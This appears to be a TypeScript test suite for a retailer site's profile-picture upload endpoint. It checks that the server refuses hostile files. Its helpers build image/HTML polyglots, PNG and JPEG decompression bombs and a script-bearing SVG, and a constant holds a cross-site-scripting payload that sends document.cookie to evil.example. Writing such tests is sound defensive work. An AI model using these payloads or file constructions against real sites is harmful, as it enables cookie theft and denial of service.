import { readdir } from 'node:fs/promises';
import { crc32 } from 'node:zlib';
import { profileUpdateFields } from '@site/contract';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { suiteServer, testDatabases } from '../harness';
import { suiteRetailer, tokenHeader } from '../customers';
import { multipart, profileForm } from '../profile';

const UPLOAD_MAX_BYTES = 1024 * 1024;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const SCRIPT = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A PNG whose header claims 100,000 × 100,000 pixels: a decompression bomb if decoded. */
function pixelBombPng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A valid JPEG whose frame header (SOF0) is rewritten to claim 60,000 × 60,000 pixels. */
function hugeDimensionJpeg(jpeg: Buffer): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]));
  if (frame < 0) throw new Error('no SOF0 marker');
  copy.writeUInt16BE(60_000, frame + 5);
  copy.writeUInt16BE(60_000, frame + 7);
  return copy;
}

/** A JPEG that is also a page: the script sits in a comment segment right after the start marker. */
function jpegWithScriptComment(jpeg: Buffer): Buffer {
  const payload = Buffer.from(`*/=1;${SCRIPT}/*`);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(payload.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, payload, jpeg.subarray(2)]);
}

/** A PNG with the page in a text chunk after its header. */
function pngWithScriptChunk(png: Buffer): Buffer {
  const afterHeader = 8 + 25;
  const text = pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.from(SCRIPT)]));
  return Buffer.concat([png.subarray(0, afterHeader), text, png.subarray(afterHeader)]);
}

for (const database of testDatabases) {
  describe.skipIf(database.skip)(`hostile profile uploads (${database.label})`, () => {
    const server = suiteServer(database, { UPLOAD_MAX_BYTES: String(UPLOAD_MAX_BYTES) });
    const a = suiteRetailer(server);

    const getDetail = () =>
      server.method('getCustomerDetail', { customer_id: a.customerId }, { headers: tokenHeader(a.login) });
    const upload = (label: string, file: { content: Uint8Array; name: string; type: string }) =>
      server.method('updateCustomerDetail', undefined, {
        method: 'PUT',
        body: multipart(profileUpdateFields(profileForm(a.customerId, { firstName: `Changed by ${label}` })), file),
        headers: tokenHeader(a.login),
      });
    const storedFiles = async () =>
      (await readdir(server.config.uploadDir).catch(() => [])).filter((name) => !name.startsWith('.'));

    it('refuses every hostile upload by its bytes: 0 accepted, 0 files stored, 0 rows changed', async () => {
      const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#1976d2' } })
        .png()
        .toBuffer();
      const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#dc004e' } })
        .jpeg()
        .toBuffer();
      const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
        .gif()
        .toBuffer();
      const wrongMagic = Buffer.from(jpeg);
      wrongMagic.writeUInt16BE(0x0000, 0);

      const hostile: [string, Buffer, string, string, number, string][] = [
        [
          'text renamed .png',
          Buffer.from('just some text, not a picture\n'.repeat(20)),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        [
          'SVG with a script',
          Buffer.from(
            `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>`,
          ),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        ['HTML named .jpg', Buffer.from(SCRIPT), 'photo.jpg', 'image/jpeg', 415, 'unsupported_media'],
        [
          'polyglot: PNG with a page after its end',
          Buffer.concat([png, Buffer.from(SCRIPT)]),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        [
          'polyglot: JPEG with a script in a comment',
          jpegWithScriptComment(jpeg),
          'photo.jpg',
          'image/jpeg',
          415,
          'unsupported_media',
        ],
        [
          'polyglot: PNG with a page in a text chunk',
          pngWithScriptChunk(png),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        [
          'wrong magic bytes: PNG signature, then garbage',
          Buffer.concat([PNG_SIGNATURE, Buffer.from('garbage'.repeat(50))]),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        [
          'wrong magic bytes: JPEG with its start marker zeroed',
          wrongMagic,
          'photo.jpg',
          'image/jpeg',
          415,
          'unsupported_media',
        ],
        ['GIF named .webp', gif, 'photo.webp', 'image/webp', 415, 'unsupported_media'],
        [
          'huge dimensions: PNG claiming 100,000 × 100,000',
          pixelBombPng(),
          'photo.png',
          'image/png',
          415,
          'unsupported_media',
        ],
        [
          'huge dimensions: JPEG claiming 60,000 × 60,000',
          hugeDimensionJpeg(jpeg),
          'photo.jpg',
          'image/jpeg',
          415,
          'unsupported_media',
        ],
        ['oversize file', Buffer.alloc(UPLOAD_MAX_BYTES + 10, 1), 'photo.jpg', 'image/jpeg', 413, 'payload_too_large'],
      ];

      const before = await getDetail();
      const filesBefore = await storedFiles();
      let accepted = 0;
      const outcomes: string[] = [];
      for (const [label, content, name, type, status, reason] of hostile) {
        const reply = await upload(label, { content, name, type });
        if (reply.status === 200) accepted++;
        outcomes.push(`${label} → ${reply.status}`);
        expect(reply.status, label).toBe(status);
        expect(reply.body.message.reason, label).toBe(reason);
      }
      const after = await getDetail();
      const filesAfter = await storedFiles();
      const rowsChanged = JSON.stringify(after.body) === JSON.stringify(before.body) ? 0 : 1;
      console.log(
        `hostile uploads (${database.label}): ${hostile.length} uploads, accepted ${accepted}, files stored ${filesAfter.length - filesBefore.length}, ` +
          `rows changed ${rowsChanged}\n  ${outcomes.join('; ')}`,
      );
      expect(accepted).toBe(0);
      expect(after.body).toEqual(before.body);
      expect(filesAfter).toEqual(filesBefore);

      // The same pictures, clean, are accepted: the refusals were about what was hidden in them.
      for (const [content, name, type] of [
        [png, 'clean.png', 'image/png'],
        [jpeg, 'clean.jpg', 'image/jpeg'],
      ] as const) {
        const clean = await upload('a clean picture', { content, name, type });
        expect(clean.status, name).toBe(200);
      }
    });
  });
}
